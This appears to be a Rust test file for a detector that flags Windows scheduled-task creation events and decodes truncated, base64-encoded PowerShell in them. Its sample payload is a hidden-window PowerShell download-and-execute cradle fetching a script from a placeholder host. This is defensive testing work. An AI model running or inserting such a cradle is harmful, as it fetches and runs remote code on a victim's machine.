//! Content that was cut on its way is read and decoded as far as it goes, and the tag says so.
//!
//! Windows cuts the event's strings at about 3,500 characters in all, Vector the rendered XML at 32,768 bytes, and
//! syslog relays, Wazuh and others a record at 1 to 64 KiB.

use schtag_tests::filter::{self, Filter};
use schtag_tests::samples::{Sample, Shape};
use serde_json::{Value, json};

const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1');";

/// Base64 of a script in UTF-16LE that begins as above and is longer than every limit.
fn payload() -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let script = format!("{SCRIPT}{}", "# and so on. ".repeat(3_000));
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let word =
            group.iter().fold(0_u32, |word, &byte| word << 8 | u32::from(byte)) << (8 * (3 - group.len()));
        for place in (0..=group.len()).map(|index| 18 - 6 * index) {
            out.push(char::from(DIGITS[(word >> place) as usize & 63]));
        }
    }
    out
}

fn sample(event_id: u16) -> Sample {
    let line = format!("-NoP -w 1 -enc {}", payload());
    Sample::new(event_id, "powershell.exe", &line)
}

/// Checks the tag of a task that was cut within its payload.
fn check(tag: &Value, what: &str) {
    assert_eq!((&tag["verdict"], &tag["severity"]), (&json!("alert"), &json!("high")), "{what}: {tag}");
    let notes = tag["notes"].to_string();
    assert!(notes.contains("truncated at "), "{what}: {notes}");
    let decoded = tag["task"]["decoded"][0].as_str().unwrap_or_default();
    assert!(decoded.starts_with(SCRIPT), "{what}: {decoded:?}");
    let line = tag["task"]["commands"][0].as_str().unwrap_or_default();
    assert!(line.starts_with("powershell.exe -NoP -w 1 -enc "), "{what}: {line:?}");
}

#[test]
fn content_that_was_cut_is_decoded_as_far_as_it_goes() {
    let module = filter::module().unwrap();
    for event_id in [4698, 4702] {
        let whole = sample(event_id);
        for limit in [2_048, 3_436, 3_437, 3_438, 3_439, 4_096, 6_144, 8_192, 16_384] {
            let content: String = whole.content.chars().take(limit).collect();
            for shape in Shape::ALL {
                let record = Sample { content: content.clone(), ..whole.clone() }.record(shape);
                let tag = Filter::new(&module).unwrap().tag(&record, 0).unwrap();
                check(&tag, &format!("{event_id} {shape:?} at {limit}"));
            }
        }
    }
}

#[test]
fn a_record_that_was_cut_as_text_is_read_as_far_as_it_goes() {
    let module = filter::module().unwrap();
    let whole: Value = serde_json::from_str(&sample(4698).record(Shape::WinevtlogXml)).unwrap();
    let xml = whole["System"].as_str().unwrap();
    let message = format!(
        "LogName=Security\nSourceName=Microsoft Windows security auditing.\nEventCode=4698\n\
         ComputerName=ws17\nMessage=A scheduled task was created.\n\nSubject:\n\tSecurity ID:\t\tS-1-5-21-1\n\t\
         Account Name:\t\talice\n\nTask Information:\n\tTask Name: \t\t\\Nightly\n\tTask Content: \t\t{}",
        sample(4698).content
    );
    // Beyond some 20 kB the work limit of a record ends the reading of such text, and the tag says so.
    for limit in [4_096, 8_192, 16_384] {
        let cut = |text: &str| text.chars().take(limit).collect::<String>();
        for (shape, record) in [
            ("XML", json!({"_raw": cut(xml)})),
            (
                "Vector's XML",
                json!({"event_id": 4698, "channel": "Security", "xml": cut(xml) + "...[truncated]"}),
            ),
            ("Splunk's lines", json!({"_raw": cut(&message)})),
        ] {
            let tag = Filter::new(&module).unwrap().tag(&record.to_string(), 0).unwrap();
            check(&tag, &format!("{shape} at {limit}"));
        }
    }
}

#[test]
fn a_cut_before_the_action_is_no_silence() {
    let module = filter::module().unwrap();
    for shape in Shape::ALL {
        let whole = sample(4698);
        let content: String = whole.content.chars().take(400).collect();
        let record = Sample { content, ..whole }.record(shape);
        let tag = Filter::new(&module).unwrap().tag(&record, 0).unwrap();
        assert_ne!(tag, Value::Null, "{shape:?}");
        assert!(tag["notes"].to_string().contains("truncated at 400 "), "{shape:?}: {}", tag["notes"]);
    }
}
